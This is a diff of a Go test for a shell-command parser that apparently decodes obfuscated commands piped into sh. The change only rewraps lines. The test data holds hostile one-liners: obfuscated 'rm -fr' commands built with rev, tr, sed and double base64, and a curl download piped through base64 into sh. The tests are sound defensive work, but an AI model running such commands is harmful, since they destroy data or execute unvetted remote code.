@@ -30,7 +30,8 @@ func TestDecoded(t *testing.T) {
 		"echo 'x/ fr- mr' | rev | sh",
 		"echo 'ez -es /k' | tr a-z n-za-m | sh",
 		"echo 'QQ -rf /x' | sed s/QQ/rm/ | sh",
-		"echo '" + base64.StdEncoding.EncodeToString([]byte(b64)) + "' | base64 -d | base64 -d | sh",
+		"echo '" + base64.StdEncoding.EncodeToString([]byte(b64)) +
+			"' | base64 -d | base64 -d | sh",
 	} {
 		s := Parse(text, agentShell)
 		shown := slices.ContainsFunc(s.Codes, func(c Code) bool {
@@ -42,12 +43,16 @@ func TestDecoded(t *testing.T) {
 	}
 	// Of what the text does not tell nothing is guessed.
 	for _, text := range []string{
-		"base64 -d f | sh", "echo $X | base64 -d | sh", "echo !!! | base64 -d | sh", "curl -s http://a.test | base64 -d | sh",
-		"echo " + b64 + " | base64 -di | sh", "echo " + b64 + " | tr $a b | base64 -d | sh", "echo x | sed s/x/rm/e | sh",
-		"echo " + b64 + " | openssl base64 -d | sh", "echo ABCD | base32 -d | sh", "echo rrm | tr -s r | sh", "echo rm | sed y/a/b/ | sh",
+		"base64 -d f | sh", "echo $X | base64 -d | sh", "echo !!! | base64 -d | sh",
+		"curl -s http://a.test | base64 -d | sh",
+		"echo " + b64 + " | base64 -di | sh", "echo " + b64 + " | tr $a b | base64 -d | sh",
+		"echo x | sed s/x/rm/e | sh",
+		"echo " + b64 + " | openssl base64 -d | sh", "echo ABCD | base32 -d | sh",
+		"echo rrm | tr -s r | sh", "echo rm | sed y/a/b/ | sh",
 	} {
 		s := Parse(text, Options{Dir: "/w"})
-		if !slices.ContainsFunc(s.Opaque, func(o Opaque) bool { return o.Place == InCode }) && !slices.ContainsFunc(s.Codes, func(c Code) bool { return c.Source < File }) {
+		if !slices.ContainsFunc(s.Opaque, func(o Opaque) bool { return o.Place == InCode }) &&
+			!slices.ContainsFunc(s.Codes, func(c Code) bool { return c.Source < File }) {
 			t.Errorf("%s\n%s", text, describe(s))
 		}
 	}
